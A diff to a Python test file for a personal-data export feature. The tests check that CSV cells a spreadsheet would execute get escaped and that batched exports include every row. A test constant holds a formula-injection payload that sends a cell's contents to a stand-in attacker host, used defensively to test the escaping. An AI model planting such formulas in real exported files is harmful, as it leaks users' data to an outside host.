@@ -31,8 +31,9 @@ from troth.outbox import (
     send,
 )
 from troth.project import Project, open_project
+from troth.rights import export
 from troth.rights import tables as t
-from troth.rights.export import Sheet, to_csv
+from troth.rights.export import csv_writer, inert_rows
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 
@@ -165,8 +166,9 @@ def test_a_denial_reason_holding_an_identity_is_refused(app: App, reason: str, w
 
 def test_a_cell_a_spreadsheet_would_run_is_neutralized() -> None:
     cells = [FORMULA, "+1 555 0100", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"]
-    sheet = Sheet("app.t", ["v", "n"], [{"v": c, "n": -5} for c in cells])
-    rows = list(csv.DictReader(io.StringIO(to_csv(sheet))))
+    buffer = io.StringIO()
+    csv_writer(buffer, ["v", "n"]).writerows(inert_rows([{"v": c, "n": -5} for c in cells]))
+    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
     assert [r["v"] for r in rows] == ["'" + c for c in cells[:6]] + cells[6:]
     assert {r["n"] for r in rows} == {"-5"}  # a number is no formula
 
@@ -184,3 +186,34 @@ def test_an_export_csv_holds_no_formula_and_its_json_is_untouched(app: App) -> N
         (user,) = json.loads(zf.read("data/app/users.json"))
     assert row["display_name"] == "'" + FORMULA
     assert user["display_name"] == FORMULA
+
+
+def test_a_table_of_several_batches_is_exported_whole(app: App) -> None:
+    """Rows are written BATCH at a time: the JSON array, the CSV and the summary's count
+    cover every batch, and a column filled only in the last batch is still held."""
+    subject = pick_subject(app)
+    many = 2 * export.BATCH + 7
+    with app.engine.begin() as conn:
+        conn.execute(text("DELETE FROM devices WHERE user_id = :u"), {"u": subject["id"]})
+        conn.execute(
+            text(
+                "INSERT INTO devices (id, user_id, device_model, ip_address, last_seen_at) "
+                "VALUES (:id, :u, :model, :ip, '2026-01-01')"
+            ),
+            [
+                {"id": 10_000_000 + n, "u": subject["id"], "model": f"m{n}", "ip": None}
+                for n in range(many - 1)
+            ]
+            + [{"id": 20_000_000, "u": subject["id"], "model": "last", "ip": "203.0.113.7"}],
+        )
+    request = start(app, "access", "user_id", str(subject["id"]))
+    done = rights.run_request(app.project, app.store, request.id, allow_large=True)
+    with zipfile.ZipFile(io.BytesIO(b"".join(rights.read_export(app.project, done.id)))) as zf:
+        devices = json.loads(zf.read("data/app/devices.json"))
+        rows = list(csv.DictReader(io.StringIO(zf.read("data/app/devices.csv").decode())))
+        summary = zf.read("summary.html").decode()
+    assert len(devices) == len(rows) == many
+    assert [d["device_model"] for d in devices] == [r["device_model"] for r in rows]
+    assert done.result["tables"]["app.devices"] == many
+    assert f"<td>app.devices</td><td>{many}</td>" in summary
+    assert "user.device.ip_address" in summary
